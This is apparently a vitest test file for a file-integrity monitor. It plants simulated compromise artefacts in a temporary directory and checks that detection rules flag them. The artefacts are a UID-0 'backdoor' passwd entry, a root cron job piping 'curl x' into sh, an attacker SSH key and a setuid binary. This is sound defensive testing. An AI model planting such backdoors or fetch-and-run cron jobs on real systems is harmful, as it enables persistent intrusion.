import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { createRuleEngine } from '../rules/rule-engine.js';
import { diffBaselines, scanPaths } from './file-integrity.js';

const dir = mkdtempSync(join(tmpdir(), 'agent-fim-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('file integrity on real files', () => {
  it('detects content, mode and membership changes and the rules classify them', () => {
    const etc = join(dir, 'etc');
    mkdirSync(join(etc, 'cron.d'), { recursive: true });
    mkdirSync(join(dir, 'home', '.ssh'), { recursive: true });
    writeFileSync(join(etc, 'passwd'), 'root:x:0:0::/root:/bin/bash\n');
    writeFileSync(join(dir, 'tool'), '#!/bin/sh\n');
    chmodSync(join(dir, 'tool'), 0o755);
    const before = scanPaths([etc, join(dir, 'home'), join(dir, 'tool')]);
    expect(before.problems).toEqual([]);
    expect(before.baseline[join(etc, 'passwd')]?.sha256).toMatch(/^[0-9a-f]{64}$/);

    writeFileSync(join(etc, 'passwd'), 'root:x:0:0::/root:/bin/bash\nbackdoor:x:0:0::/:/bin/sh\n');
    writeFileSync(join(etc, 'cron.d', 'miner'), '* * * * * root curl x | sh\n');
    writeFileSync(join(dir, 'home', '.ssh', 'authorized_keys'), 'ssh-ed25519 AAAA attacker\n');
    chmodSync(join(dir, 'tool'), 0o4755);
    const after = scanPaths([etc, join(dir, 'home'), join(dir, 'tool')]);
    const changes = diffBaselines(before.baseline, after.baseline);
    expect(changes.find((c) => c.path === join(etc, 'passwd'))).toMatchObject({ change: 'modified', fields: ['content'] });
    expect(changes.find((c) => c.path === join(dir, 'tool'))).toMatchObject({ change: 'modified', fields: ['mode'] });

    const rules = createRuleEngine().onFileChanges(changes, new Date()).map((a) => `${a.rule} ${a.path ?? ''}`);
    expect(rules).toEqual(expect.arrayContaining([
      `account-file-changed ${join(etc, 'passwd')}`,
      `cron-changed ${join(etc, 'cron.d', 'miner')}`,
      `authorized-keys-changed ${join(dir, 'home', '.ssh', 'authorized_keys')}`,
      `new-suid-binary ${join(dir, 'tool')}`,
    ]));
    expect(diffBaselines(after.baseline, scanPaths([etc, join(dir, 'home'), join(dir, 'tool')]).baseline)).toEqual([]);
  });

  it('stays bounded on large trees and skips paths that do not exist', () => {
    const big = join(dir, 'big');
    mkdirSync(big);
    for (let i = 0; i < 30; i++) writeFileSync(join(big, `f${String(i)}`), String(i));
    const r = scanPaths([big, join(dir, 'nope')], { maxFiles: 10 });
    expect(Object.keys(r.baseline)).toHaveLength(10);
    expect(r.truncated).toBe(true);
    expect(r.problems).toEqual([]);
  });
});
